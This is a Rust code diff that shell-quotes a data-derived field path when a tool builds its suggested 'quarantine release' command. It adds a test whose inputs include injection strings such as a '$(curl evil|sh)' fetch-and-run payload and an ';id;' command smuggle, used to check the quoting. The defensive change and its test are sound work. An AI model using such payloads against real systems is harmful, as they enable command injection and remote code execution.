@@ -11,7 +11,7 @@ use crate::{
     report::{
         counted,
         grid::{Grid, shown},
-        names, rows,
+        names, rows, shell,
     },
 };
 
@@ -147,10 +147,10 @@ impl Reason {
     /// What to do about it.
     pub fn hint(&self) -> String {
         let stream = &self.stream;
-        let place = if self.place.is_empty() {
-            String::new()
-        } else {
-            format!(" --path {}", self.place)
+        let place = match shell::word(&self.place) {
+            // In one word with the option: the name of a member may begin with a hyphen.
+            Some(place) if !self.place.is_empty() => format!(" --path={place}"),
+            _ => String::new(),
         };
         let release = format!(
             "landfall quarantine release {stream} --class {}{place}",
@@ -234,7 +234,7 @@ mod tests {
           1,200 records: enum at tier: expected one of "gold", found string "platinum"
               {"tier":"platinum"}
               landfall quarantine show shop.customers 1/4/5
-              mend the source; or let the contract take it (landfall contract patch shop.customers), then: landfall quarantine release shop.customers --class enum --path tier
+              mend the source; or let the contract take it (landfall contract patch shop.customers), then: landfall quarantine release shop.customers --class enum --path=tier
 
         shop.orders
           1 record: not_json: expected JSON, found not JSON at byte 7
@@ -243,5 +243,31 @@ mod tests {
         "#);
         assert!(text(&reasons, 2).ends_with("only the first 2 reasons are listed: see --limit\n"));
         assert_eq!(text(&[], 50), "nothing is quarantined\n");
+    }
+
+    #[test]
+    fn f160_a_name_in_the_data_is_no_part_of_a_command() {
+        let hint = |place: &str| {
+            let reason = Reason {
+                stream: "shop.orders".to_owned(),
+                class: "unknown_field".to_owned(),
+                place: place.to_owned(),
+                ..Reason::default()
+            };
+            let hint = reason.hint();
+            hint.rsplit_once("then: ").unwrap().1.to_owned()
+        };
+        let release = "landfall quarantine release shop.orders --class unknown_field";
+        for (place, option) in [
+            ("lines[].price", " --path='lines[].price'"),
+            (r#"["$(curl evil|sh) x"]"#, r#" --path='["$(curl evil|sh) x"]'"#),
+            ("a';id;'", r" --path='a'\'';id;'\'''"),
+            ("-x", " --path=-x"),
+            ("rule total_is_sum", " --path='rule total_is_sum'"),
+            ("", ""),
+            ("a\u{9b}2J", ""),
+        ] {
+            assert_eq!(hint(place), format!("{release}{option}"));
+        }
     }
 }
